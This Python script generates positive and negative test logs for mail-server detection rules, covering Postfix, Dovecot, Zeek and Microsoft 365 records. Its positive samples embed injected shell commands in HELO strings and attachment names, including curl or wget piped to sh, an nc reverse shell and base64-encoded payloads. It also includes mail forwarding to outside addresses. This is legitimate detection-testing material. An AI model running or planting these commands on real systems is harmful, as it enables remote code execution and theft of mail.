#!/usr/bin/env python3
"""Writes the fixture logs of kenchi's own rules: tests/rules/<rule name>/
positive.<ext> and negative.<ext> (and placeholders.yml where a rule needs
placeholders). Every line is in the format the decoder reads in production
(Postfix and Dovecot syslog lines with RFC 3339 time stamps, Zeek TSV and
JSON logs, Microsoft 365 audit records as NDJSON), with documentation
addresses (RFC 5737) and example domains. Deterministic: running it again
gives the same files. Usage: python3 tests/rules/gen_fixtures.py"""
import json, os
from datetime import datetime, timedelta, timezone

HERE = os.path.dirname(os.path.abspath(__file__))
T0 = datetime(2024, 3, 4, 9, 0, 0, tzinfo=timezone.utc)


def ts(t):
    return t.strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "+00:00"


def write(rule, name, lines):
    d = os.path.join(HERE, rule)
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, name), "w") as f:
        f.write("\n".join(lines) + "\n")


# ---- Postfix -------------------------------------------------------------
PID = [2101]


def pf_fail(t, ip, user, host="mx1"):
    PID[0] += 1
    return (f"{ts(t)} {host} postfix/submission/smtpd[{PID[0]}]: warning: unknown[{ip}]: "
            f"SASL LOGIN authentication failed: UGFzc3dvcmQ6, sasl_username={user}")


def pf_conn(t, ip, host="mx1"):
    return f"{ts(t)} {host} postfix/submission/smtpd[{PID[0]}]: connect from unknown[{ip}]"


def pf_login(t, ip, user, qid="4Tq9xK0bQmz2Wd1", host="mx1"):
    PID[0] += 1
    return (f"{ts(t)} {host} postfix/submission/smtpd[{PID[0]}]: {qid}: client=unknown[{ip}], "
            f"sasl_method=PLAIN, sasl_username={user}")


def pf_reject(t, ip, helo, host="mx1"):
    PID[0] += 1
    return (f"{ts(t)} {host} postfix/smtpd[{PID[0]}]: NOQUEUE: reject: RCPT from unknown[{ip}]: "
            f"554 5.7.1 <postmaster@example.org>: Relay access denied; from=<probe@example.net> "
            f"to=<postmaster@example.org> proto=ESMTP helo=<{helo}>")


# ---- Dovecot -------------------------------------------------------------
SESS = [0]


def dv_sess():
    SESS[0] += 1
    return f"k{SESS[0]:04d}Qx9mPLAKbwAA"


def dv_fail(t, ip, user, proc="imap-login", host="mx1"):
    return (f"{ts(t)} {host} dovecot[442]: {proc}: Aborted login (auth failed, 1 attempts in 2 secs): "
            f"user=<{user}>, method=PLAIN, rip={ip}, lip=192.0.2.10, TLS, session=<{dv_sess()}>")


def dv_login(t, ip, user, proc="imap-login", host="mx1"):
    return (f"{ts(t)} {host} dovecot[442]: {proc}: Login: user=<{user}>, method=PLAIN, "
            f"rip={ip}, lip=192.0.2.10, mpid=31337, TLS, session=<{dv_sess()}>")


def users(n, dom="example.org"):
    first = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy",
             "mallory", "niaj", "olivia", "peggy", "rupert", "sybil", "trent", "victor", "walter",
             "xavier", "yvonne", "zoe", "adam", "beth", "chris", "diana", "emil", "fiona", "gus",
             "hana", "igor", "jana", "karl", "lena", "max", "nora"]
    return [f"{first[i]}@{dom}" for i in range(n)]


def auth_suite(kind, fail, login, guess_n, acct_n):
    """The same scenarios for Postfix SASL and Dovecot IMAP (kind is the
    rule name prefix); guess_n / acct_n are the thresholds of the address
    and the account burst correlations."""
    attacker, other = "203.0.113.9", "198.51.100.23"
    u = users(36)
    # password guessing from one address
    pos = [fail(T0 + timedelta(seconds=10 * i), attacker, u[i % 2]) for i in range(guess_n + 5)]
    neg = [fail(T0 + timedelta(minutes=12 * i), attacker, u[i % 2]) for i in range(guess_n + 5)]
    neg += [fail(T0 + timedelta(seconds=10 * i), f"192.0.2.{100 + i}", u[0]) for i in range(guess_n + 5)]
    neg.sort()
    write(f"{kind}_password_guessing", "positive.log", pos)
    write(f"{kind}_password_guessing", "negative.log", neg)
    # spraying: many accounts from one address in an hour
    pos = [fail(T0 + timedelta(minutes=2 * i), attacker, u[i]) for i in range(12)]
    neg = [fail(T0 + timedelta(minutes=1 * i), attacker, u[i % 3]) for i in range(30)]
    neg += [fail(T0 + timedelta(minutes=2 * i, seconds=30), f"192.0.2.{100 + i}", u[i]) for i in range(12)]
    neg.sort()
    write(f"{kind}_password_spraying", "positive.log", pos)
    write(f"{kind}_password_spraying", "negative.log", neg)
    # slow spraying: one account every two hours (positive), every eight (negative)
    pos = [fail(T0 + timedelta(hours=2 * i), attacker, u[i]) for i in range(30)]
    neg = [fail(T0 + timedelta(hours=8 * i), attacker, u[i]) for i in range(30)]
    write(f"{kind}_slow_spraying", "positive.log", pos)
    write(f"{kind}_slow_spraying", "negative.log", neg)
    # many failures on one account from many addresses
    pos = [fail(T0 + timedelta(seconds=30 * i), f"192.0.2.{100 + i}", u[0]) for i in range(acct_n + 2)]
    neg = [fail(T0 + timedelta(minutes=15 * i), other, u[0]) for i in range(acct_n + 2)]
    write(f"{kind}_account_guessing", "positive.log", pos)
    write(f"{kind}_account_guessing", "negative.log", neg)
    # login after guessing from the same address
    pos = [login(T0 - timedelta(minutes=30), other, u[5])]
    pos += [fail(T0 + timedelta(seconds=10 * i), attacker, u[i % 4]) for i in range(guess_n + 2)]
    pos += [login(T0 + timedelta(minutes=15), attacker, u[3])]
    neg = [login(T0 - timedelta(minutes=5), attacker, u[3])]  # login first
    neg += [fail(T0 + timedelta(seconds=10 * i), attacker, u[i % 4]) for i in range(guess_n + 2)]
    neg += [fail(T0 + timedelta(seconds=10 * i + 5), "203.0.113.77", u[i % 4]) for i in range(guess_n + 2)]
    neg += [login(T0 + timedelta(minutes=15), other, u[3])]  # another address logs in
    neg += [login(T0 + timedelta(hours=3), attacker, u[3])]  # long after the burst
    neg.sort()
    write(f"{kind}_login_after_guessing_ip", "positive.log", pos)
    write(f"{kind}_login_after_guessing_ip", "negative.log", neg)
    # login after many failures on the same account
    pos = [fail(T0 + timedelta(seconds=30 * i), f"192.0.2.{100 + i}", u[1]) for i in range(acct_n + 2)]
    pos += [login(T0 + timedelta(minutes=20), "198.51.100.200", u[1])]
    neg = [login(T0 - timedelta(minutes=5), other, u[1])]
    neg += [fail(T0 + timedelta(seconds=30 * i), f"192.0.2.{100 + i}", u[1]) for i in range(acct_n + 2)]
    neg += [login(T0 + timedelta(minutes=20), other, u[2])]  # another account
    neg.sort()
    write(f"{kind}_login_after_guessing_user", "positive.log", pos)
    write(f"{kind}_login_after_guessing_user", "negative.log", neg)


auth_suite("postfix_sasl", pf_fail, pf_login, 20, 10)
auth_suite("dovecot_imap", dv_fail, dv_login, 10, 10)

write("postfix_helo_onion_or_command", "positive.log", [
    pf_conn(T0, "203.0.113.9"),
    pf_reject(T0 + timedelta(seconds=1), "203.0.113.9", "$(curl -s http://198.51.100.4/x|sh)"),
    pf_reject(T0 + timedelta(seconds=40), "203.0.113.40", "3g2upl4pq6kufc4m.onion"),
    pf_reject(T0 + timedelta(seconds=50), "203.0.113.41", "`wget -qO- 198.51.100.4/a`"),
])
write("postfix_helo_onion_or_command", "negative.log", [
    pf_conn(T0, "198.51.100.23"),
    pf_reject(T0 + timedelta(seconds=1), "198.51.100.23", "mail.example.net"),
    pf_reject(T0 + timedelta(seconds=2), "198.51.100.24", "[198.51.100.24]"),
    pf_reject(T0 + timedelta(seconds=3), "198.51.100.25", "John's-MacBook-Pro.local"),
    pf_reject(T0 + timedelta(seconds=4), "198.51.100.26", "onion.example.com"),
    pf_reject(T0 + timedelta(seconds=5), "198.51.100.27", "curlew-mx.example.net"),
])

# ---- Zeek ----------------------------------------------------------------
def epoch(t):
    return f"{t.timestamp():.6f}"


CONN_FIELDS = ["ts", "uid", "id.orig_h", "id.orig_p", "id.resp_h", "id.resp_p", "proto", "service",
               "duration", "orig_bytes", "resp_bytes", "conn_state", "local_orig", "local_resp",
               "missed_bytes", "history", "orig_pkts", "orig_ip_bytes", "resp_pkts", "resp_ip_bytes",
               "tunnel_parents"]
CONN_TYPES = ["time", "string", "addr", "port", "addr", "port", "enum", "string", "interval",
              "count", "count", "string", "bool", "bool", "count", "string", "count", "count",
              "count", "count", "set[string]"]


def zeek_tsv(path, fields, types, rows, t):
    out = ["#separator \\x09", "#set_separator\t,", "#empty_field\t(empty)", "#unset_field\t-",
           f"#path\t{path}", f"#open\t{t.strftime('%Y-%m-%d-%H-%M-%S')}",
           "#fields\t" + "\t".join(fields), "#types\t" + "\t".join(types)]
    out += ["\t".join(r) for r in rows]
    out.append(f"#close\t{(t + timedelta(hours=1)).strftime('%Y-%m-%d-%H-%M-%S')}")
    return out


UID = [0]


def conn(t, src, sport, dst, dport, proto="tcp", service="-", state="SF", hist="ShADadFf"):
    UID[0] += 1
    return [epoch(t), f"CzU{UID[0]:04d}k3jR2bXq9", src, str(sport), dst, str(dport), proto, service,
            "12.504211", "1432", "8810", state, "T", "F", "0", hist, "24", "2684", "20", "9618", "(empty)"]


MAIL = "192.0.2.10"
PLACEHOLDERS = "mail_servers:\n  - 192.0.2.10\n  - 192.0.2.11\n"
write("zeek_conn_mailserver_unusual_port", "placeholders.yml", [PLACEHOLDERS.rstrip("\n")])
write("zeek_conn_mailserver_unusual_port", "positive.log", zeek_tsv("conn", CONN_FIELDS, CONN_TYPES, [
    conn(T0, MAIL, 41022, "198.51.100.80", 25, service="smtp"),
    conn(T0 + timedelta(seconds=20), MAIL, 41230, "198.51.100.77", 8443, service="ssl"),
    conn(T0 + timedelta(seconds=40), "192.0.2.11", 39120, "203.0.113.200", 1337, state="S0", hist="S"),
], T0))
write("zeek_conn_mailserver_unusual_port", "negative.log", zeek_tsv("conn", CONN_FIELDS, CONN_TYPES, [
    conn(T0, MAIL, 41022, "198.51.100.80", 25, service="smtp"),
    conn(T0 + timedelta(seconds=1), MAIL, 41023, "198.51.100.81", 465, service="ssl"),
    conn(T0 + timedelta(seconds=2), MAIL, 53211, "198.51.100.53", 53, proto="udp", service="dns", hist="Dd"),
    conn(T0 + timedelta(seconds=3), MAIL, 41024, "198.51.100.90", 443, service="ssl"),
    conn(T0 + timedelta(seconds=4), MAIL, 41025, "10.20.0.5", 636, service="ssl"),
    conn(T0 + timedelta(seconds=5), MAIL, 8, "198.51.100.1", 0, proto="icmp", hist="-"),
    conn(T0 + timedelta(seconds=6), "192.0.2.50", 50000, "198.51.100.77", 8443, service="ssl"),
], T0))


def zjson(log, t, **kw):
    rec = {"_path": log, "ts": float(f"{t.timestamp():.6f}")}
    rec.update(kw)
    return json.dumps(rec)


def http(t, src, dst, host, uri="/", dport=80):
    UID[0] += 1
    return zjson("http", t, uid=f"CHt{UID[0]:04d}aa1", **{"id.orig_h": src, "id.orig_p": 40000 + UID[0],
                 "id.resp_h": dst, "id.resp_p": dport}, trans_depth=1, method="GET", host=host, uri=uri,
                 version="1.1", user_agent="Wget/1.21.3", request_body_len=0, response_body_len=73802,
                 status_code=200, status_msg="OK", tags=[], resp_fuids=[f"FhX{UID[0]:04d}"],
                 resp_mime_types=["application/x-executable"])


write("zeek_http_mailserver_ip_host", "placeholders.yml", [PLACEHOLDERS.rstrip("\n")])
write("zeek_http_mailserver_ip_host", "positive.log", [
    http(T0, MAIL, "198.51.100.4", "198.51.100.4", "/snapshot/x01"),
    http(T0 + timedelta(seconds=5), "192.0.2.11", "203.0.113.200", "203.0.113.200:8080", "/b", 8080),
])
write("zeek_http_mailserver_ip_host", "negative.log", [
    http(T0, MAIL, "198.51.100.90", "updates.example.com", "/v2/manifest.json"),
    http(T0 + timedelta(seconds=1), MAIL, "10.20.0.8", "10.20.0.8", "/spamd/health"),
    http(T0 + timedelta(seconds=2), "192.0.2.50", "198.51.100.4", "198.51.100.4", "/x"),
    http(T0 + timedelta(seconds=3), MAIL, "198.51.100.91", "198.51.100.91.example.net", "/"),
])


def files(t, name, mime="application/x-tar"):
    UID[0] += 1
    return zjson("files", t, fuid=f"Fa9{UID[0]:04d}bQ", uid=f"CmS{UID[0]:04d}x", **{
        "id.orig_h": "203.0.113.9", "id.orig_p": 52000 + UID[0], "id.resp_h": MAIL, "id.resp_p": 25},
        source="SMTP", depth=3, analyzers=["MD5", "SHA1"], mime_type=mime, filename=name,
        duration=0.0, is_orig=True, seen_bytes=10240, total_bytes=10240, missing_bytes=0,
        overflow_bytes=0, timedout=False, md5="9e107d9d372bb6826bd81d3542a419d6",
        sha1="2fd4e1c67a2d28fced849ee1bb76e7391b93eb12")


write("zeek_files_attachment_shell_metacharacters", "positive.log", [
    files(T0, "'`abcdef`'.tar"),
    files(T0 + timedelta(seconds=1), "'$(nc 198.51.100.4 443 -e /bin/sh)'.tar"),
    files(T0 + timedelta(seconds=2), "';wget -qO- 198.51.100.4/s|sh;'.tar"),
])
write("zeek_files_attachment_shell_metacharacters", "negative.log", [
    files(T0, "invoice_2024-03.pdf", "application/pdf"),
    files(T0 + timedelta(seconds=1), "John's report.docx", "application/msword"),
    files(T0 + timedelta(seconds=2), "Q1 results (final) - sales & marketing.xlsx", "application/vnd.ms-excel"),
    files(T0 + timedelta(seconds=3), "backup_2024-03-04.tar"),
])
write("zeek_files_attachment_encoded_command", "positive.log", [
    files(T0, "'`echo ZXhwb3J0IEI9MTk4LjUxLjEwMC40O2N1cmwgLXMgJEIvYXxzaA== | base64 -d | sh`'.tar"),
    files(T0 + timedelta(seconds=1), "report & powershell -w hidden -EncodedCommand SQBFAFgA.lnk",
          "application/octet-stream"),
    files(T0 + timedelta(seconds=2), "c2ggLWkgPiYgL2Rldi90Y3AvMTk4LjUxLjEwMC40LzQ0MyAwPiYxCg==.tar"),
])
write("zeek_files_attachment_encoded_command", "negative.log", [
    files(T0, "=?UTF-8?B?UmVjaG51bmcgTcOkcnogMjAyNCAtIGZpbmFsZSBWZXJzaW9uLnBkZg==?=", "application/pdf"),
    files(T0 + timedelta(seconds=1), "PowerShell_Training_Slides.pptx", "application/vnd.ms-powerpoint"),
    files(T0 + timedelta(seconds=2), "scan_0034.pdf", "application/pdf"),
    files(T0 + timedelta(seconds=3), "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08.zip",
          "application/zip"),
])


def smtp(t, src, helo):
    UID[0] += 1
    return zjson("smtp", t, uid=f"CsM{UID[0]:04d}z", **{"id.orig_h": src, "id.orig_p": 53000 + UID[0],
                 "id.resp_h": MAIL, "id.resp_p": 25}, trans_depth=1, helo=helo,
                 mailfrom="probe@example.net", rcptto=["postmaster@example.org"],
                 last_reply="554 5.7.1 <postmaster@example.org>: Relay access denied",
                 path=[MAIL, src], tls=False, fuids=[], is_webmail=False)


write("zeek_smtp_helo_onion_or_command", "positive.log", [
    smtp(T0, "203.0.113.40", "3g2upl4pq6kufc4m.onion"),
    smtp(T0 + timedelta(seconds=1), "203.0.113.9", "x;curl -s 198.51.100.4/a|sh"),
])
write("zeek_smtp_helo_onion_or_command", "negative.log", [
    smtp(T0, "198.51.100.23", "mail.example.net"),
    smtp(T0 + timedelta(seconds=1), "198.51.100.24", "[198.51.100.24]"),
    smtp(T0 + timedelta(seconds=2), "198.51.100.25", "onion-router.example.com"),
])

# ---- Microsoft 365 ---------------------------------------------------------
ORG = "4a8f1c2e-1b7d-4c8e-9a3f-0e2d5c6b7a81"
RID = [0]


def m365(t, op, user, params=None, **kw):
    RID[0] += 1
    rec = {"CreationTime": t.strftime("%Y-%m-%dT%H:%M:%S"),
           "Id": f"5b0d7a2e-8c51-4a0f-9e3e-{RID[0]:012x}", "Operation": op, "OrganizationId": ORG,
           "RecordType": 1, "ResultStatus": "True", "UserKey": "10032001A2B3C4D5", "UserType": 2,
           "Version": 1, "Workload": "Exchange", "ClientIP": "198.51.100.23:50412",
           "ObjectId": user, "UserId": user, "AppId": "", "ClientAppId": "", "ExternalAccess": False,
           "OrganizationName": "contoso.onmicrosoft.com",
           "OriginatingServer": "AM0PR04MB1234 (15.20.7339.000)"}
    if params is not None:
        rec["Parameters"] = [{"Name": k, "Value": v} for k, v in params]
    rec.update(kw)
    return json.dumps(rec)


A = "alice@contoso.com"
ADM = "admin@contoso.onmicrosoft.com"
write("m365_inbox_rule_forward_external", "positive.json", [
    m365(T0, "New-InboxRule", A, [("AlwaysDeleteOutlookRulesBlob", "False"), ("Force", "False"),
         ("Name", "."), ("ForwardTo", "exfil.box@example.net"), ("StopProcessingRules", "True")]),
    m365(T0 + timedelta(minutes=1), "Set-InboxRule", A, [("Identity", "alice@contoso.com\\Move"),
         ("RedirectTo", "SMTP:ops-archive@example.net")]),
])
write("m365_inbox_rule_forward_external", "negative.json", [
    m365(T0, "New-InboxRule", A, [("Name", "Newsletters"), ("From", "news@example.com"),
         ("MoveToFolder", "alice@contoso.com:\\Newsletters"), ("StopProcessingRules", "False")]),
    m365(T0 + timedelta(minutes=1), "New-InboxRule", A, [("Name", "To Bob"), ("ForwardTo", "Bob Smith")]),
    m365(T0 + timedelta(minutes=2), "Set-InboxRule", A, [("Identity", "alice@contoso.com\\fwd"),
         ("ForwardTo", "")]),
])
write("m365_mailbox_forwarding", "positive.json", [
    m365(T0, "Set-Mailbox", ADM, [("Identity", "alice"), ("ForwardingSmtpAddress", "smtp:exfil.box@example.net"),
         ("DeliverToMailboxAndForward", "True")], ObjectId="alice"),
])
write("m365_mailbox_forwarding", "negative.json", [
    m365(T0, "Set-Mailbox", ADM, [("Identity", "alice"), ("ForwardingSmtpAddress", ""),
         ("DeliverToMailboxAndForward", "False")], ObjectId="alice"),
    m365(T0 + timedelta(minutes=1), "Set-Mailbox", ADM, [("Identity", "bob"), ("ProhibitSendQuota", "49 GB")],
         ObjectId="bob"),
])
write("m365_transport_rule_redirect", "positive.json", [
    m365(T0, "New-TransportRule", ADM, [("Name", "Compliance copy"), ("SentToScope", "InOrganization"),
         ("BlindCopyTo", "collector@example.net")], ObjectId="Compliance copy"),
])
write("m365_transport_rule_redirect", "negative.json", [
    m365(T0, "New-TransportRule", ADM, [("Name", "External tag"), ("FromScope", "NotInOrganization"),
         ("PrependSubject", "[EXTERNAL] ")], ObjectId="External tag"),
    m365(T0 + timedelta(minutes=1), "Set-TransportRule", ADM, [("Identity", "External tag"),
         ("Enabled", "False")], ObjectId="External tag"),
])
write("m365_mailbox_permission_grant", "positive.json", [
    m365(T0, "Add-MailboxPermission", ADM, [("Identity", "ceo@contoso.com"), ("User", "svc-sync@contoso.com"),
         ("AccessRights", "FullAccess"), ("InheritanceType", "All")], ObjectId="ceo"),
    m365(T0 + timedelta(minutes=1), "Add-RecipientPermission", ADM, [("Identity", "ceo@contoso.com"),
         ("Trustee", "svc-sync@contoso.com"), ("AccessRights", "SendAs"), ("Confirm", "False")], ObjectId="ceo"),
])
write("m365_mailbox_permission_grant", "negative.json", [
    m365(T0, "Add-MailboxPermission", "NT AUTHORITY\\SYSTEM (Microsoft.Exchange.ServiceHost)",
         [("Identity", "room-4@contoso.com"), ("User", "room-4-delegates"), ("AccessRights", "FullAccess")],
         ObjectId="room-4"),
    m365(T0 + timedelta(minutes=1), "Add-MailboxPermission", ADM, [("Identity", "ceo@contoso.com"),
         ("User", "assistant@contoso.com"), ("AccessRights", "ReadPermission")], ObjectId="ceo"),
    m365(T0 + timedelta(minutes=2), "Remove-MailboxPermission", ADM, [("Identity", "ceo@contoso.com"),
         ("User", "svc-sync@contoso.com"), ("AccessRights", "FullAccess")], ObjectId="ceo"),
])
write("m365_mailbox_folder_permission_grant", "positive.json", [
    m365(T0, "Add-MailboxFolderPermission", ADM, [("Identity", "cfo@contoso.com:\\Inbox"), ("User", "Default"),
         ("AccessRights", "Reviewer")], ObjectId="cfo:\\Inbox"),
])
write("m365_mailbox_folder_permission_grant", "negative.json", [
    m365(T0, "Set-MailboxFolderPermission", ADM, [("Identity", "cfo@contoso.com:\\Calendar"), ("User", "Default"),
         ("AccessRights", "Reviewer")], ObjectId="cfo:\\Calendar"),
    m365(T0 + timedelta(minutes=1), "Set-MailboxFolderPermission", ADM, [("Identity", "cfo@contoso.com:\\Inbox"),
         ("User", "Default"), ("AccessRights", "None")], ObjectId="cfo:\\Inbox"),
])

OUTLOOK = "d3590ed6-52b3-4102-aeff-aad2292ab01c"
ROGUE = "6c9a4b1e-3f2d-4e8a-9b7c-1d2e3f4a5b6c"


def mia(t, user, owner, app):
    return m365(t, "MailItemsAccessed", user, RecordType=50, ResultStatus="Succeeded", UserType=0,
                ClientIP=None, ClientIPAddress="198.51.100.23", AppId=app, ClientAppId=app,
                ClientInfoString="Client=REST;", MailboxGuid="0b1c2d3e-4f50-6172-8394-a5b6c7d8e9f0",
                MailboxOwnerUPN=owner, ObjectId=None,
                OperationProperties=[{"Name": "MailAccessType", "Value": "Bind"},
                                     {"Name": "IsThrottled", "Value": "False"}],
                Folders=[{"FolderItems": [{"InternetMessageId": f"<m{RID[0]}@contoso.com>"}],
                          "Id": "LgAAAA", "Path": "\\Inbox"}], OperationCount=1)


def clean(lines):  # drop the members set to None above
    return [json.dumps({k: v for k, v in json.loads(x).items() if v is not None}) for x in lines]


write("m365_mailitemsaccessed_mass", "positive.json", clean(
    [mia(T0 + timedelta(seconds=25 * i), A, A, ROGUE) for i in range(120)]))
write("m365_mailitemsaccessed_mass", "negative.json", clean(
    [mia(T0 + timedelta(minutes=2 * i), A, A, OUTLOOK) for i in range(120)]   # 30 an hour
    + [mia(T0 + timedelta(seconds=25 * i, milliseconds=1), f"user{i % 4}@contoso.com",
           f"user{i % 4}@contoso.com", OUTLOOK) for i in range(120)]))      # many users, one app
owners = users(12, "contoso.com")
write("m365_mailitemsaccessed_app_many_mailboxes", "positive.json", clean(
    [mia(T0 + timedelta(minutes=2 * i), "ServicePrincipal_8b2e", owners[i], ROGUE) for i in range(12)]))
write("m365_mailitemsaccessed_app_many_mailboxes", "negative.json", clean(
    [mia(T0 + timedelta(minutes=2 * i), owners[i], owners[i], OUTLOOK) for i in range(12)]
    + [mia(T0 + timedelta(hours=3 * i), "ServicePrincipal_8b2e", owners[i], ROGUE) for i in range(12)]))

# ---- forwarding to outside domains (Postfix aliases, Dovecot Sieve) ----------
DOMAINS = 'mail_domains:\n  - "@example.org"\n  - "@lists.example.org"'


def pf_delivery(t, to, orig_to=None, relay="mx.example.net[198.51.100.5]:25", status="sent", service="smtp"):
    PID[0] += 1
    o = f" orig_to=<{orig_to}>," if orig_to else ""
    text = {"sent": "250 2.0.0 Ok: queued as 4Tq9xK0bQmz2Wd1",
            "deferred": "connect to mx.example.net[198.51.100.5]:25: Connection timed out"}[status]
    return (f"{ts(t)} mx1 postfix/{service}[{PID[0]}]: 3F1A22C0456: to=<{to}>,{o} relay={relay}, "
            f"delay=1.8, delays=0.12/0.01/0.9/0.77, dsn={'2.0.0' if status == 'sent' else '4.4.1'}, "
            f"status={status} ({text})")


write("postfix_alias_forward_external", "placeholders.yml", [DOMAINS])
write("postfix_alias_forward_external", "positive.log", [
    pf_delivery(T0, "ceo.private@example.net", "ceo@example.org"),
])
write("postfix_alias_forward_external", "negative.log", [
    pf_delivery(T0, "partner@example.net"),                                   # plain outbound mail
    pf_delivery(T0 + timedelta(seconds=1), "sales-team@lists.example.org", "sales@example.org",
                relay="lists.example.org[192.0.2.30]:25"),                    # alias to an own domain
    pf_delivery(T0 + timedelta(seconds=2), "ceo.private@example.net", "ceo@example.org",
                status="deferred"),                                           # not delivered (yet)
])


def dv_sieve(t, user, to, verb="forwarded"):
    return (f"{ts(t)} mx1 dovecot[442]: lmtp({user})<31337><Kx8PA3zR5mXkAQAA>: sieve: "
            f"msgid=<20240304100005.ABC@partner.example>: {verb} to <{to}>")


write("dovecot_sieve_forward_external", "placeholders.yml", [DOMAINS])
write("dovecot_sieve_forward_external", "positive.log", [
    dv_sieve(T0, "alice@example.org", "alice.archive@example.net"),
])
write("dovecot_sieve_forward_external", "negative.log", [
    dv_sieve(T0, "alice@example.org", "bob@example.org"),
    dv_sieve(T0 + timedelta(seconds=1), "alice@example.org", "team@lists.example.org"),
    dv_sieve(T0 + timedelta(seconds=2), "alice@example.org", "alice.private@example.net", "sent vacation response"),
])


def ssl(t, src, dst, dport, sni=None):
    UID[0] += 1
    kw = {"id.orig_h": src, "id.orig_p": 44000 + UID[0], "id.resp_h": dst, "id.resp_p": dport}
    if sni:
        kw["server_name"] = sni
    return zjson("ssl", t, uid=f"CsL{UID[0]:04d}q", **kw, version="TLSv12",
                 cipher="TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384", curve="x25519", resumed=False,
                 established=True, ssl_history="CsxknGIi")


write("zeek_ssl_mailserver_no_sni", "placeholders.yml", [PLACEHOLDERS.rstrip("\n")])
write("zeek_ssl_mailserver_no_sni", "positive.log", [
    ssl(T0, MAIL, "198.51.100.77", 443),
])
write("zeek_ssl_mailserver_no_sni", "negative.log", [
    ssl(T0, MAIL, "198.51.100.90", 443, "updates.example.com"),
    ssl(T0 + timedelta(seconds=1), MAIL, "198.51.100.80", 25),            # STARTTLS to an MX, no SNI
    ssl(T0 + timedelta(seconds=2), MAIL, "10.20.0.5", 636),               # internal LDAPS
    ssl(T0 + timedelta(seconds=3), "192.0.2.50", "198.51.100.77", 443),   # not a mail server
])
